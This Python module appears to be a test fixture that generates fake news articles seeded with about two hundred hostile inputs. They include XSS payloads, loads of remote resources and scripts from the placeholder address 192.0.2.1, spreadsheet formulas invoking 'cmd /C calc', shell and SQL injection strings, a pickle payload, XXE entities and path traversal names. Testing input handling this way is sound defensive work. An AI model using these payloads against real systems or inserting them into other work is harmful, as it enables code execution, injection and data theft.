"""Two hundred things that a hostile article may hold, and a folder of articles that hold them all.

Each tries to run a script (which would set `window.pwned`), to fetch something (from 192.0.2.1, an address that belongs
to nobody), to become a formula in a spreadsheet, to leave the file or folder it is written to, or to turn into code of
some other reader. Most are the textbook forms of their class, put together from their parts.
"""

import itertools
import json
import pathlib

RUN = "window.pwned=1"
AWAY = "http://192.0.2.1/x"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "iframe",
    "object",
    "embed",
    "marquee",
    "select autofocus",
    "textarea autofocus",
    "math",
    "style",
    "link rel=stylesheet",
    "b",
    "a",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter")
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script/src=data:,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script>{RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} dur=1>",
    f"<math><mtext><img src onerror={RUN}></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<xmp><p title='</xmp><svg/onload={RUN}>'>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<img src=`x` onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n={RUN}>",
    f"<img \x00src=x onerror={RUN}>",
    f"<\x00script>{RUN}</script>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus x='",
    f'x" style="animation-name:x" onanimationstart="{RUN}',
    *(
        f"<{tag} {event}={RUN}>"
        for first in (0, 3)
        for tag, event in zip(_TAGS, itertools.islice(itertools.cycle(_EVENTS), first, None), strict=False)
    ),
    *(f'<img src=x {event}="{RUN}">' for event in _EVENTS),
]
REQUESTS = [
    *(
        f"<{tag}>"
        for tag in (
            f"img src={AWAY}",
            f"iframe src={AWAY}",
            f"object data={AWAY}",
            f"embed src={AWAY}",
            f"video src={AWAY}",
            f"audio src={AWAY}",
            f"link rel=stylesheet href={AWAY}",
            f"link rel=prefetch href={AWAY}",
            f"base href={AWAY}",
            f"meta http-equiv=refresh content='0;url={AWAY}'",
            f"form action={AWAY}",
            f"input type=image src={AWAY}",
            f"body background={AWAY}",
            f"img srcset={AWAY}",
            f"div style='background:url({AWAY})'",
            f"svg><image href={AWAY}",
            f"svg><use href={AWAY}#a",
            f"script src={AWAY}",
            f"frameset><frame src={AWAY}",
            f"table background={AWAY}",
        )
    ),
    f"<style>@import url({AWAY});</style>",
    f"<style>body{{background:url({AWAY})}}</style>",
    f"<style>@font-face{{font-family:x;src:url({AWAY})}}*{{font-family:x}}</style>",
    f"![picture]({AWAY})",
    f"![picture][1]\n[1]: {AWAY}",
    f'[link]({AWAY} "title")',
    f"<{AWAY}>",
    f"[click](javascript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[a](<javascript:{RUN}>)",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='jav\tascript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href=vbscript:{RUN}>x</a>",
    f"<form><button formaction=javascript:{RUN}>x",
    f"<iframe srcdoc='<script>{RUN}'>",
    f"<a href='data:text/html;base64,PHNjcmlwdD4='>{RUN}</a>",
    f"//192.0.2.1/{RUN}",
    "\\\\192.0.2.1\\share\\x",
    "file:///etc/passwd",
]
ENCODED = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}",
    f"\\x3cscript\\x3e{RUN}",
    f"＜script＞{RUN}＜/script＞",
    f"‹script›{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<\u200bscript>{RUN}</script>",
    f"\u202e>tpircs<{RUN}",
    f"\u2066<svg onload={RUN}>\u2069",
    f"\ufeff<script>{RUN}",
    f"<ſcript>{RUN}</ſcript>",
    f"<\u0131mg src=x onerror={RUN}>",
    f"<s\u0301cript>{RUN}",
    f"\u2028<script>{RUN}",
]
CODE = [
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    "{% raw %}{{ 7*7 }}{% x %}",
    "{0.__class__.__mro__}",
    "{x!r:>{y}}",
    "%s%n%x%d",
    "%(name)s",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned #",
    "| touch pwned",
    "&& touch pwned",
    "'; DROP TABLE kept; --",
    '" OR 1=1 --',
    "__import__('os').system('true')",
    "cos\nsystem\n(S'true'\ntR.",
    "!!python/object/apply:os.system [true]",
    "!include /etc/passwd",
    "*alias &anchor",
    f"$\\require{{html}}\\href{{javascript:{RUN}}}{{x}}$",
    "$$\\input{/etc/passwd}$$",
    "\\write18{true}",
    "\\(\\unicode{x3c}\\)",
    f"```html\n<script>{RUN}</script>\n```",
    f"~~~\n</pre><svg onload={RUN}>\n~~~",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{AWAY}'>]>",
    "&e;&e;&e;",
    f"<?xml-stylesheet href='{AWAY}'?>",
    f'"}}],"x":"</script><script>{RUN}</script>',
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://192.0.2.1\x07link\x1b]8;;\x07",
    "\x1b]0;title\x07",
    "\x9b2J",
    "a\x08b\x7f",
    "]]]]><![CDATA[>",
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    f'=HYPERLINK("{AWAY}","x")',
    f'=WEBSERVICE("{AWAY}")',
    f'=IMAGE("{AWAY}")',
    f'=IMPORTXML("{AWAY}","//a")',
    f'=IMPORTDATA("{AWAY}")',
    '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
    "'=1+1",
    '"=1+1"',
    ",=1+1",
    ";=1+1",
    "\n=1+1",
    "＝1+1",
    "=\u20281+1",
    "0\t=1+1",
]
PATHS = [
    "../../pwned",
    "..\\..\\pwned",
    "/etc/pwned",
    "C:\\pwned",
    "%2e%2e%2fpwned",
    "CON",
    "nul.txt",
    "a:b",
    "~/pwned",
    "x\x00.txt",
    "." * 300,
]
ALL = [*SCRIPTS, *REQUESTS, *ENCODED, *CODE, *FORMULAS, *PATHS]
_SAID = (
    '{0}\n\nOn Friday 6 March {year}, the mayor said "{1}" and that more than {number} people were told to leave.\n'
    "{2}\nThe council shall not be {3} used for surveillance of residents, according to {4} Gazette.\n",
    "The mayor denied on 7 March {year} that {0} the bridge {will} close.\n- {1}\n- {2}\n"
    '"The bridge {will} close {3}", {4} told the Gazette on Saturday.\n',
)


def articles(folder: pathlib.Path) -> pathlib.Path:
    """Three articles in `folder` that hold every attack in sentences that differ from article to article."""
    for number, (year, people, will) in enumerate([(2020, 140, "will"), (2021, 150, "will not"), (2020, 160, "may")]):
        turned = ALL[number:] + ALL[:number]
        parts = [
            _SAID[place % 2].format(*turned[place * 5 : place * 5 + 5], *[""] * 5, year=year, number=people, will=will)
            for place in range(-(-len(turned) // 5))
        ]
        text = "\n".join(parts)
        if number == 1:  # the one form that may hold every character
            (folder / f"a{number}.json").write_text(json.dumps([{"title": SCRIPTS[0], "text": text}]), encoding="utf-8")
        else:
            (folder / f"a{number}.txt").write_text(text.replace("\x00", ""), encoding="utf-8")
    return folder
